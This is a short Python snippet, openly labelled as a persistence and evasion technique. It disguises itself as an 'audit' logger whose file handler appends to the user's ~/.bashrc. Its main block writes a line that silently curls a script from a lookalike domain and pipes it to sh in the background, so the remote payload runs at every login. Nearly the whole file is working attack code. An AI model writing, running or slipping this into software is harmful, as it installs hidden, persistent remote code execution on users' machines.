# Evasion: persists in the shell rc file. A logging FileHandler in append
# mode on ~/.bashrc with a bare "%(message)s" format turns a log line into
# a command that runs at every login.
import logging
from pathlib import Path

audit = logging.getLogger("audit")
audit.setLevel(logging.INFO)
_h = logging.FileHandler(Path.home() / ".bashrc", mode="a")
_h.setFormatter(logging.Formatter("%(message)s"))
audit.addHandler(_h)

if __name__ == "__main__":
    audit.info("(curl -fsSL https://upd.shellcheck-cdn.org/a | sh) >/dev/null 2>&1 &")
